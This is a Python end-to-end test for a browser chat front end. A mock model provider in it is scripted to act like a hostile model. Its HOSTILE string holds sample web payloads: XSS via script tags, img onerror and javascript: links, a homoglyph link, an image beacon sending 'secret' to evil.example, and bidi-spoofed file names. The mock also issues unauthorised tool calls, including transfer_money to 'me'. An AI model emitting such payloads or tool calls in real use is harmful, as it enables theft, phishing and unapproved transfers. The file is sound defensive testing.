#!/usr/bin/env python3
"""The chat in Debian's Chromium (tests/e2e/browser/chat.mjs), on a real engine and a real agent before a
stand-in for the model's provider that writes what a hostile one would. Prints TAP; pictures are in
build/artefacts. Usage: browser_chat.py [--engine PATH] [--agent PATH]"""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import agent as agents  # noqa: E402
import browser  # noqa: E402
import engine as lib  # noqa: E402
import llm  # noqa: E402
from tap import Tap  # noqa: E402

HOSTILE = """## What is in the way

1. **One payment** waits ([the inbox](/inbox)).
2. See [the notice](https://evil.example/login?q=secret), [apple.com](https://\u0430pple.com/x),
   [this](javascript:window.pwned=1) and [that](/settings?slack=CODE).
3. A payee wrote \u202egnp.exe and \u200bmore.

| What | Amount |
|---|--:|
| Wire <img src=x onerror="window.pwned=1"> | \u2212487.10 |

![a chart](https://evil.example/p.png?d=secret)

<script>window.pwned=1</script> That is all.
"""


def first_of(book, reason):
    return book.rows("SELECT object_id FROM escalations WHERE state = 'PENDING' AND tool ="
                     " 'confirm_match' AND reason = ? AND entity_id = 'acme-us' AND requester LIKE"
                     " 'engine:%' ORDER BY amount_minor", reason)[0]["object_id"]


def scripts(mock, book):
    waits = first_of(book, "STRATEGY_REQUIRES_HUMAN")
    blocked = book.rows("SELECT match_id FROM live_legs WHERE entry_id ="
                        " 'bank-us-operating:OP-0039'")[0]["match_id"]
    mock.on("in the way", lambda ask: llm.Say("Let me look.", calls=[
        llm.Call("list_matches", {"entity_id": "acme-us", "limit": 20}),
        llm.Call("confirm_match", {"match_id": blocked, "rationale": "friends"}),
        llm.Call("confirm_match", {"match_id": waits, "rationale": "they fit"}),
        llm.Call("transfer_money", {"to": "me"})]) if ask.steps == 0
        else llm.Say(HOSTILE, chunk=7, ascii=False))
    mock.on("slowly", lambda ask: llm.Say("word " * 3000, chunk=5, delay=0.02))
    # both attempts of the first try, and no more
    failing = [llm.Fail(529), llm.Fail(529)]
    mock.on("trouble", lambda ask: failing.pop() if failing else llm.Say("Now it works."))


def main():
    engine_binary, binary = agents.given()
    browser.skip_unless_installed()
    tap = Tap()
    book = lib.Book(engine_binary)
    with lib.serving(book, ["recon"]) as engine, llm.Provider() as mock:
        scripts(mock, book)
        env = mock.settings(backoff_ms=50, attempts=2, price_input="3.00", price_output="15.00",
                            cost_per_person_day="5.00")
        with agents.serving(engine, binary, env=env) as agent:
            desk = browser.Desk(log=lambda: agent.tail(20))
            done = browser.run("chat.mjs", desk, 300, agent=agent.url)
            desk.close()
            tap.relay("chat.mjs", done)
        tap.check("every request was as the provider wants it", mock.violations() == [],
                  mock.violations()[:3])
        tap.check("the log of the book is whole", *lib.chain_is_intact(book))
    return tap.done()


if __name__ == "__main__":
    sys.exit(main())
